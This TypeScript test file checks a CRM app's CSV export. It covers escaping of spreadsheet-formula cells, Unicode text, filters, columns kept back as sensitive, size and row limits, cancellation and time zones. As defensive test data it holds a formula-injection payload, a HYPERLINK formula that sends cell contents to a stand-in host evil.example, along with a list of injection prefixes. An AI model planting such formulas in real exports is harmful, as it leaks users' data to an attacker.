import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { AccountDraft } from '../../../src-shared/domain/account';
import { ActivityDraft } from '../../../src-shared/domain/activity';
import { ContactDraft, ContactListQuery } from '../../../src-shared/domain/contact';
import { DealDraft } from '../../../src-shared/domain/deal';
import { BadInputError, NotPermittedError } from '../../../src-shared/ipc/errors';
import { ExportRequest } from '../../../src-shared/transfer/export';
import { ImportRun } from '../../../src-shared/transfer/import';
import { TempVaultFolder } from '../../testing/temp-vault';
import type { Connection } from '../../vault/connection';
import type { Vault } from '../../vault/vault';
import { createAccount } from '../crm/account.service';
import { createActivity } from '../crm/activity.service';
import { createContact, createContacts, listContacts } from '../crm/contact.service';
import { createDeal } from '../crm/deal.service';
import { localTime, majorUnits } from './export-columns';
import { neutraliseCell } from '../../../src-shared/transfer/csv-text';
import { exportCsv } from './export.service';
import { ownerExportPolicy, type ExportContext, type ExportPolicy } from './export-policy';
import { ImportService } from './import.service';

const sender = { transport: 'test', origin: 'test://fieldvault' } as const;
const now = Date.UTC(2026, 4, 1, 12);

/** The owner's policy, recording one number of each outcome it is told (`pick`: the rows, the bytes). */
function recordingPolicy(pick: (context: Parameters<ExportPolicy['afterExport']>[0]) => number): { outcomes: number[]; policy: ExportPolicy } {
  const outcomes: number[] = [];
  const policy: ExportPolicy = {
    beforeExport: (context) => ownerExportPolicy.beforeExport(context),
    afterExport: (context) => Promise.resolve(void outcomes.push(pick(context))),
  };
  return { outcomes, policy };
}

/** The rows of an export's text, which has no byte-order mark (the page puts it first: it made the text UTF-16 over IPC). */
function rowsOf(csv: string): string[][] {
  expect(csv.includes('\uFEFF'), 'a byte-order mark in the text').toBe(false);
  return parse(csv, { relax_column_count: false });
}

describe('CSV export', () => {
  let folder: TempVaultFolder;
  let vault: Vault;

  beforeAll(async () => {
    folder = await TempVaultFolder.create();
    vault = folder.vault();
    await vault.create('export test password 1');
    await vault.connection().write(async (tx) => {
      const account = await createAccount(tx, AccountDraft.parse({ name: '+Plus Industries', industry: '@handle', tags: ['key'] }), now);
      const evil = await createContact(
        tx,
        ContactDraft.parse({
          name: '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
          title: '-2+3',
          emails: ['evil@example.org'],
          phones: ['+44 20 7946 0000'],
          accountId: account.id,
          notes: '\tTab first\r\nthen a line',
          tags: ['vip'],
        }),
        now,
      );
      await createContact(tx, ContactDraft.parse({ name: 'محمد 🚀 王小明', emails: ['m@example.org', 'm2@example.org'], address: { city: 'Zürich' } }), now);
      await createContact(tx, ContactDraft.parse({ name: 'Plain Person', notes: ' =1+1 leading space' }), now);
      const deal = await createDeal(tx, DealDraft.parse({ name: 'Big deal', accountId: account.id, contactIds: [evil.id], amount: 1234567, currency: 'EUR', stageId: 'lead', expectedCloseDate: '2026-06-30' }), now);
      await createDeal(tx, DealDraft.parse({ name: 'Yen deal', amount: 5000, currency: 'JPY', stageId: 'won', expectedCloseDate: '2026-07-01' }), now);
      await createActivity(tx, ActivityDraft.parse({ kind: 'call', subject: 'Intro call', contactId: evil.id, dealId: deal.id, occurredAt: now }), now);
    });
  });

  afterAll(async () => {
    await folder.dispose();
  });

  const run = (request: unknown, policy: ExportPolicy = ownerExportPolicy) =>
    exportCsv(ExportRequest.parse(request), { connection: vault.connection(), policy, sender, now });

  /** Exports, checking that the rows counted first (the progress total) are the rows exported. */
  const runCounted = async (request: unknown) => {
    const reports: [number, number][] = [];
    const result = await exportCsv(ExportRequest.parse(request), {
      connection: vault.connection(),
      policy: ownerExportPolicy,
      sender,
      now,
      onProgress: (rows, total) => reports.push([rows, total]),
    });
    expect(reports[0]).toEqual([0, result.rows]);
    return result;
  };

  it('neutralises every cell a spreadsheet would evaluate (OWASP CSV injection)', async () => {
    const cases: [string, string][] = [
      ['=1+1', "'=1+1"],
      ['+44 20', "'+44 20"],
      ['-5', "'-5"],
      ['@SUM(A1)', "'@SUM(A1)"],
      ['\tx', "'\tx"],
      ['\rx', "'\rx"],
      ['  =cmd', "'  =cmd"],
      // Full-width: Apple Numbers folds them into = + - @ and evaluates the cell.
      ['＝HYPERLINK("http://x","y")', '\'＝HYPERLINK("http://x","y")'],
      ['＋1', "'＋1"],
      ['－1', "'－1"],
      ['＠SUM(A1)', "'＠SUM(A1)"],
      [' ＝1', "' ＝1"],
      ['plain', 'plain'],
      ['a=b', 'a=b'],
      ['', ''],
    ];
    for (const [input, output] of cases) expect(neutraliseCell(input)).toBe(output);
    const result = await run({ entity: 'contacts', query: { sort: { field: 'name', direction: 'asc' } }, includeSensitive: true });
    expect(result).toMatchObject({ rows: 3, fileName: 'contacts-2026-05-01.csv' });
    const [header, ...rows] = rowsOf(result.csv);
    expect(header?.slice(0, 5)).toEqual(['Name', 'Title', 'Company', 'Email', 'Phone']);
    const column = (name: string) => header?.indexOf(name) ?? -1;
    const evil = rows.find((row) => row[column('Name')]?.includes('HYPERLINK'));
    expect(evil?.[column('Name')]).toBe('\'=HYPERLINK("http://evil.example/?leak="&A1,"click")');
    expect(evil?.[column('Title')]).toBe("'-2+3");
    expect(evil?.[column('Company')]).toBe("'+Plus Industries");
    expect(evil?.[column('Phone')]).toBe("'+44 20 7946 0000");
    expect(evil?.[column('Notes')]).toBe("'\tTab first\r\nthen a line");
    expect(rows.find((row) => row[column('Name')] === 'Plain Person')?.[column('Notes')]).toBe("' =1+1 leading space");
    // Every cell of the file, not only the known ones, is safe.
    for (const row of rows) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('keeps emoji, RTL and CJK text intact and joins lists', async () => {
    const result = await run({ entity: 'contacts', query: {} });
    const [header, ...rows] = rowsOf(result.csv);
    const row = rows.find((cells) => cells[0] === 'محمد 🚀 王小明');
    expect(row?.[header?.indexOf('Email') ?? -1]).toBe('m@example.org; m2@example.org');
    expect(row?.[header?.indexOf('City') ?? -1]).toBe('Zürich');
  });

  it('exports the list the user sees: its filters and sort', async () => {
    const tagged = await runCounted({ entity: 'contacts', query: { filter: { tags: ['vip'] } } });
    expect(tagged.rows).toBe(1);
    expect((await runCounted({ entity: 'contacts', query: {} })).rows).toBe(3);
    expect((await runCounted({ entity: 'contacts', query: { deleted: 'only' } })).rows).toBe(0);
    const accounts = await runCounted({ entity: 'accounts', query: {} });
    expect(rowsOf(accounts.csv)[1]?.slice(0, 2)).toEqual(["'+Plus Industries", "'@handle"]);
    const deals = await runCounted({ entity: 'deals', query: { sort: { field: 'name', direction: 'asc' } } });
    expect((await runCounted({ entity: 'deals', query: { filter: { stageIds: ['won'] } } })).rows).toBe(1);
    const [dealHeader, big, yen] = rowsOf(deals.csv);
    expect(dealHeader?.slice(0, 5)).toEqual(['Name', 'Account', 'Contacts', 'Amount', 'Currency']);
    expect(big?.slice(0, 5)).toEqual(['Big deal', "'+Plus Industries", '\'=HYPERLINK("http://evil.example/?leak="&A1,"click")', '12345.67', 'EUR']);
    expect(yen?.slice(3, 5)).toEqual(['5000', 'JPY']);
    // The stage as the board names it, not its id.
    const stage = dealHeader?.indexOf('Stage') ?? -1;
    expect([big?.[stage], yen?.[stage]]).toEqual(['Lead', 'Won']);
    const activities = await runCounted({ entity: 'activities', query: {} });
    expect(rowsOf(activities.csv)[1]?.slice(0, 5)).toEqual(['call', 'Intro call', '\'=HYPERLINK("http://evil.example/?leak="&A1,"click")', "'+Plus Industries", 'Big deal']); // the deal's account (accountFor)
    const tasks = await runCounted({ entity: 'tasks', query: {} });
    expect(tasks.rows).toBe(0);
    expect(rowsOf(tasks.csv)).toHaveLength(1);
    expect(majorUnits(5, 'KWD')).toBe('0.005');
  });

  it('leaves the sensitive fields (notes, an activity\'s details) out unless the request includes them', async () => {
    const contacts = await run({ entity: 'contacts', query: {} });
    expect(rowsOf(contacts.csv)[0]).not.toContain('Notes');
    expect(contacts.rows).toBe(3);
    for (const note of ['Tab first', 'then a line', 'leading space']) expect(contacts.csv).not.toContain(note);
    const withNotes = await run({ entity: 'contacts', query: {}, includeSensitive: true });
    expect(rowsOf(withNotes.csv)[0]).toContain('Notes');
    expect(withNotes.csv).toContain('Tab first');
    expect(rowsOf((await run({ entity: 'activities', query: {} })).csv)[0]).not.toContain('Body');
    expect(rowsOf((await run({ entity: 'tasks', query: {} })).csv)[0]).not.toContain('Notes');
    // The policy is offered no sensitive column unless asked, and told which way the user chose.
    const offered: { columns: string[]; includeSensitive: boolean }[] = [];
    const watching: ExportPolicy = {
      beforeExport: (context) => {
        offered.push({ columns: context.columns.filter((column) => column.sensitivity === 'sensitive').map((column) => column.key), includeSensitive: context.includeSensitive });
        return ownerExportPolicy.beforeExport(context);
      },
      afterExport: () => Promise.resolve(),
    };
    await run({ entity: 'contacts', query: {} }, watching);
    await run({ entity: 'contacts', query: {}, includeSensitive: true }, watching);
    expect(offered).toEqual([
      { columns: [], includeSensitive: false },
      { columns: ['notes'], includeSensitive: true },
    ]);
    expect(ExportRequest.safeParse({ entity: 'contacts', query: {}, includeSensitive: 'yes' }).success).toBe(false);
  });

  it('asks the export policy first and tells it the outcome, with names and counts only', async () => {
    const seen: { before?: ExportContext; after?: ExportContext & { exportedColumns: readonly string[]; rows: number; bytes: number } } = {};
    const narrowing: ExportPolicy = {
      beforeExport: (context) => {
        seen.before = context;
        return Promise.resolve({ columns: context.columns.filter((column) => column.sensitivity !== 'sensitive' && column.sensitivity !== 'personal').map((column) => column.key) });
      },
      afterExport: (context) => {
        seen.after = context;
        return Promise.resolve();
      },
    };
    const result = await run({ entity: 'contacts', query: { filter: { tags: ['vip'] } } }, narrowing);
    const [header] = rowsOf(result.csv);
    expect(header).toEqual(['Title', 'Company', 'Preferred channel', 'Tags', 'Owner', 'Created', 'Updated', 'Id']);
    expect(seen.before).toMatchObject({ entity: 'contacts', filterFields: ['tags'], deleted: 'exclude', sender });
    expect(seen.after).toMatchObject({ rows: 1, exportedColumns: ['title', 'accountId', 'preferredChannel', 'tags', 'ownerId', 'createdAt', 'updatedAt', 'id'] });
    expect(JSON.stringify(seen)).not.toContain('vip');

    const refusing: ExportPolicy = { beforeExport: () => Promise.reject(new NotPermittedError('contacts:export')), afterExport: () => Promise.resolve() };
    await expect(run({ entity: 'contacts', query: {} }, refusing)).rejects.toThrow(NotPermittedError);
  });

  it('classes a column of linked contacts as their names are (personal): a policy leaving personal columns out leaves it out', async () => {
    const noPersonal: ExportPolicy = {
      beforeExport: (context) => Promise.resolve({ columns: context.columns.filter((column) => column.sensitivity !== 'sensitive' && column.sensitivity !== 'personal').map((column) => column.key) }),
      afterExport: () => Promise.resolve(),
    };
    const deals = await run({ entity: 'deals', query: {} }, noPersonal);
    const [dealHeader] = rowsOf(deals.csv);
    expect(dealHeader).toContain('Account');
    expect(dealHeader).not.toContain('Contacts');
    const activities = await run({ entity: 'activities', query: {} }, noPersonal);
    const [activityHeader] = rowsOf(activities.csv);
    for (const kept of ['Subject', 'Account', 'Deal']) expect(activityHeader).toContain(kept);
    expect(activityHeader).not.toContain('Contact');
    for (const csv of [deals.csv, activities.csv]) expect(csv).not.toContain('HYPERLINK');
    // With the owner's policy, the linked contact's name is there.
    expect((await run({ entity: 'deals', query: {} })).csv).toContain('HYPERLINK');
  });

  it('writes a contacts file that imports again without remapping, to the same values', async () => {
    const exported = await run({ entity: 'contacts', query: {}, includeSensitive: true });
    const target = await TempVaultFolder.create();
    try {
      const other = target.vault();
      await other.create('export test password 2');
      const service = new ImportService({ vault: other, log: target.log, onProgress: () => undefined });
      const uploadId = service.uploads.append(undefined, Buffer.from(`\uFEFF${exported.csv}`, 'utf8'), true).uploadId; // the file as the page saves it
      const preview = await service.preview({ uploadId, format: 'csv', entity: 'contacts', rows: 10 });
      expect(preview.encoding).toBe('utf-8-bom');
      expect(preview.mapping.slice(0, 5)).toEqual(['name', 'title', 'company', 'email', 'phone']);
      const status = await service.run(ImportRun.parse({ uploadId, format: 'csv', entity: 'contacts' }));
      await service.settled(status.jobId);
      expect(await service.status(status.jobId, 0)).toMatchObject({ state: 'done', imported: 3, rejected: 0 });
      const fields = (list: { name: string; title: string; emails: string[]; phones: string[]; notes: string; tags: string[] }[]) =>
        list.map(({ name, title, emails, phones, notes, tags }) => ({ name, title, emails, phones, notes: notes.trim(), tags })).sort((a, b) => a.name.localeCompare(b.name));
      const original = await vault.connection().read((tx) => listContacts(tx, ContactListQuery.parse({})));
      const copied = await other.connection().read((tx) => listContacts(tx, ContactListQuery.parse({})));
      expect(fields(copied.items)).toEqual(fields(original.items));
      expect(copied.items.find((contact) => contact.phones.length > 0)?.phones).toEqual(['+44 20 7946 0000']);
    } finally {
      await target.dispose();
    }
  });

  it('reports the rows read of the rows counted, at the start, every 2,000 and at the end, so a long export shows it moves', async () => {
    const large = await TempVaultFolder.create();
    try {
      const other = large.vault();
      await other.create('export test password 3');
      await other.connection().write((tx) => createContacts(tx, Array.from({ length: 4_321 }, (_, index) => ContactDraft.parse({ name: `Row ${index}` })), now));
      const reports: [number, number][] = [];
      const result = await exportCsv(ExportRequest.parse({ entity: 'contacts', query: {} }), {
        connection: other.connection(),
        policy: ownerExportPolicy,
        sender,
        now,
        onProgress: (rows, total) => reports.push([rows, total]),
      });
      expect(result.rows).toBe(4_321);
      expect(reports).toEqual([
        [0, 4_321],
        [2_000, 4_321],
        [4_000, 4_321],
        [4_321, 4_321],
      ]);
      expect(rowsOf(result.csv)).toHaveLength(4_322);
    } finally {
      await large.dispose();
    }
  });

  it('refuses a list over the limit from its count, before reading a row or telling the policy an outcome', async () => {
    const large = await TempVaultFolder.create();
    try {
      const other = large.vault();
      await other.create('export test password 4');
      await other.connection().write((tx) => createContacts(tx, Array.from({ length: 450 }, (_, index) => ContactDraft.parse({ name: `Row ${index}`, tags: index < 300 ? ['a'] : [] })), now));
      let reads = 0;
      const counting: Pick<Connection, 'read' | 'write'> = {
        read: (body) => {
          reads += 1;
          return other.connection().read(body);
        },
        write: (body) => other.connection().write(body),
      };
      const { outcomes, policy } = recordingPolicy((context) => context.rows);
      const progress: number[] = [];
      const exportWith = (query: object, maxRows: number) =>
        exportCsv(ExportRequest.parse({ entity: 'contacts', query }), { connection: counting, policy, sender, now, maxRows, onProgress: (rows) => progress.push(rows) });

      // 450 rows are three pages: reading them until the limit took three reads.
      const refusal = exportWith({}, 449);
      await expect(refusal).rejects.toThrow(BadInputError);
      await expect(refusal).rejects.toThrow('The list has more than 449 rows: narrow it with filters and export the parts');
      // With its reason, for the renderer to word in the user's language.
      await expect(refusal).rejects.toMatchObject({ reason: { code: 'export_too_many_rows', max: 449 } });
      expect({ reads, progress, outcomes }).toEqual({ reads: 1, progress: [], outcomes: [] });

      // Exactly at the limit, and a filter that narrows the list under it, export every row.
      expect((await exportWith({}, 450)).rows).toBe(450);
      expect((await exportWith({ filter: { tags: ['a'] } }, 449)).rows).toBe(300);
      expect(outcomes).toEqual([450, 300]);
    } finally {
      await large.dispose();
    }
  });

  it('refuses a file larger than an export may make, as soon as it gets there, and tells the policy no outcome', async () => {
    const large = await TempVaultFolder.create();
    try {
      const other = large.vault();
      await other.create('export test password 5');
      // 300 contacts with 4 KB of notes each: about 1.2 MB with their notes, a few KB without.
      const notes = 'Met at the trade fair; wants a quote for the north depot. '.repeat(70);
      await other.connection().write((tx) => createContacts(tx, Array.from({ length: 300 }, (_, index) => ContactDraft.parse({ name: `Long ${index}`, notes })), now));
      const { outcomes, policy } = recordingPolicy((context) => context.bytes);
      const exportWith = (includeSensitive: boolean) =>
        exportCsv(ExportRequest.parse({ entity: 'contacts', query: {}, includeSensitive }), { connection: other.connection(), policy, sender, now, maxMegabytes: 1 });
      // Before, the whole file was joined in memory first (past about 512 MB the join threw, after every row was read).
      const refusal = exportWith(true);
      await expect(refusal).rejects.toThrow(BadInputError);
      await expect(refusal).rejects.toMatchObject({ reason: { code: 'export_too_large', maxMegabytes: 1 } });
      expect(outcomes).toEqual([]);
      // Without the notes it fits, and the policy hears the file's size in bytes: the text and the mark the page puts first.
      const fits = await exportWith(false);
      expect(fits.rows).toBe(300);
      expect(outcomes).toEqual([Buffer.byteLength(`\uFEFF${fits.csv}`, 'utf8')]);
    } finally {
      await large.dispose();
    }
  });

  it('ends with no file and no outcome for the policy when Stop comes while the last page is read', async () => {
    const { outcomes, policy } = recordingPolicy((context) => context.rows);
    const stop = new AbortController();
    const exporting = exportCsv(ExportRequest.parse({ entity: 'contacts', query: {} }), {
      connection: vault.connection(),
      policy,
      sender,
      now,
      signal: stop.signal,
      // Told of the last page's rows: Stop is pressed then, before the file is made.
      onProgress: (rows, total) => {
        if (rows > 0 && rows === total) stop.abort();
      },
    });
    await expect(exporting).rejects.toMatchObject({ code: 'CANCELLED' });
    expect(outcomes).toEqual([]);
  });

  it('names the file for the user\'s day, not UTC\'s, far east and far west of UTC', async () => {
    const zone = process.env.TZ;
    try {
      // 20:00 UTC on 1 December is already 2 December in Kiritimati (UTC+14).
      process.env.TZ = 'Pacific/Kiritimati';
      expect((await exportCsv(ExportRequest.parse({ entity: 'accounts' }), { connection: vault.connection(), policy: ownerExportPolicy, sender, now: Date.UTC(2026, 11, 1, 20) })).fileName).toBe(
        'accounts-2026-12-02.csv',
      );
      // 05:00 UTC on 2 December is still 1 December in Pago Pago (UTC-11).
      process.env.TZ = 'Pacific/Pago_Pago';
      expect((await exportCsv(ExportRequest.parse({ entity: 'accounts' }), { connection: vault.connection(), policy: ownerExportPolicy, sender, now: Date.UTC(2026, 11, 2, 5) })).fileName).toBe(
        'accounts-2026-12-01.csv',
      );
    } finally {
      if (zone === undefined) delete process.env.TZ;
      else process.env.TZ = zone;
    }
  });

  it('writes times as the user\'s local time with its offset, to the second, which the importer leaves alone', async () => {
    const zone = process.env.TZ;
    /** The cells of `header`'s column, header row left out. */
    const column = (csv: string, header: string): string[] => {
      const [head = [], ...rows] = rowsOf(csv);
      return rows.map((row) => row[head.indexOf(header)] ?? 'missing');
    };
    try {
      // 12:00 UTC on 1 May, the time every record here was written, is 20:00 in Shanghai (UTC+8)…
      process.env.TZ = 'Asia/Shanghai';
      const contacts = await run({ entity: 'contacts', query: {} });
      expect(new Set([...column(contacts.csv, 'Created'), ...column(contacts.csv, 'Updated')])).toEqual(new Set(['2026-05-01T20:00:00+08:00']));
      expect(column((await run({ entity: 'activities', query: {} })).csv, 'Occurred at')).toEqual(['2026-05-01T20:00:00+08:00']);
      // …and 09:30 in St. John's (UTC−2:30 in summer): a half-hour offset west of UTC.
      process.env.TZ = 'America/St_Johns';
      expect(column((await run({ entity: 'deals', query: {} })).csv, 'Created')).toEqual(['2026-05-01T09:30:00-02:30', '2026-05-01T09:30:00-02:30']);
      // Milliseconds are dropped, not rounded; the cell still names the instant to the second.
      process.env.TZ = 'Asia/Shanghai';
      const at = Date.UTC(2026, 11, 2, 0, 51, 56, 508);
      expect(localTime(at)).toBe('2026-12-02T08:51:56+08:00');
      expect(Date.parse(localTime(at))).toBe(at - 508);
      process.env.TZ = 'UTC';
      expect(localTime(at)).toBe('2026-12-02T00:51:56+00:00');

      // The importer maps no field to Created or Updated (a record imported is created then), so the new form changes no import.
      const service = new ImportService({ vault, log: folder.log, onProgress: () => undefined });
      const uploadId = service.uploads.append(undefined, Buffer.from(contacts.csv, 'utf8'), true).uploadId;
      const preview = await service.preview({ uploadId, format: 'csv', entity: 'contacts', rows: 10 });
      const [head = []] = rowsOf(contacts.csv);
      expect([preview.mapping[head.indexOf('Created')], preview.mapping[head.indexOf('Updated')]]).toEqual([null, null]);
    } finally {
      if (zone === undefined) delete process.env.TZ;
      else process.env.TZ = zone;
    }
  });
});
